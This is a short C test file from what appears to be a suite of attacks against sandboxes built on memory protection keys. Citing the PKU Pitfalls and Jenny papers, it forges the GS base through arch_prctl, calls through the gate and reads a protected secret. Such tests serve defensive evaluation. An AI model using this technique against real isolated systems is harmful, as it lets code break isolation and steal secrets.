/* Tries: to have the kernel set the base by which the gate knows its thread, to a page of the
 *   library's, and then call back
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020); Jenny (Schrammel et al., USENIX
 *   Security 2022)
 * Observed: The secret in what the call gave back.
 * Needs: linux, keys */
#include "attacks/attack.h"

FOREIGN(run)
{
    static uint64_t forged[8192] __attribute__((aligned(4096)));
    if (at->gate_start && !kernel3(SYS_arch_prctl, 0x1001, ADDRESS(forged), 0)) /* ARCH_SET_GS */
        at->call(1);
    take(at, at->secret_global);
    return 0;
}
